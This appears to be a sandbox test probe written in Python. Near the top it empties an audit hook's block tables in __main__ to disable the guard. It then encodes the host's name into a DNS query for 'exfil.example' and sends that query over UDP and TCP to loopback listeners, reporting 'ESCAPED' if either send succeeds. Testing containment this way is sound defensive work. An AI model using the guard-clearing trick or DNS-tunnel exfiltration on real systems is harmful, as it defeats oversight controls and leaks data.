"""network: DNS: resolve names, and exfiltrate data as a query (over UDP and TCP) to a resolver
on the host's loopback (the listeners stand in for it; nothing leaves 127.0.0.1).
"""

import os
import socket
import struct
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

UDP = int("__UDP_PORT__")
TCP = int("__TCP_PORT__")
label = os.uname().nodename.encode()[:40] or b"x"
query = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for part in (label, b"exfil", b"example"):
    query += bytes([len(part)]) + part
query += b"\0" + struct.pack("!HH", 1, 1)
wins = []
try:
    print("localhost resolves to", socket.getaddrinfo("localhost", TCP)[0][4])
except OSError as exc:
    print(f"getaddrinfo localhost: {exc}")
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(query, ("127.0.0.1", UDP))
    wins.append("DNS query over UDP")
    s.close()
except OSError as exc:
    print(f"udp query: {exc.strerror}")
try:
    s = socket.create_connection(("127.0.0.1", TCP), timeout=1)
    s.sendall(struct.pack("!H", len(query)) + query)
    s.close()
    wins.append("DNS query over TCP")
except OSError as exc:
    print(f"tcp query: {exc.strerror or exc}")
if wins:
    print("ESCAPED: sent " + ", ".join(wins))
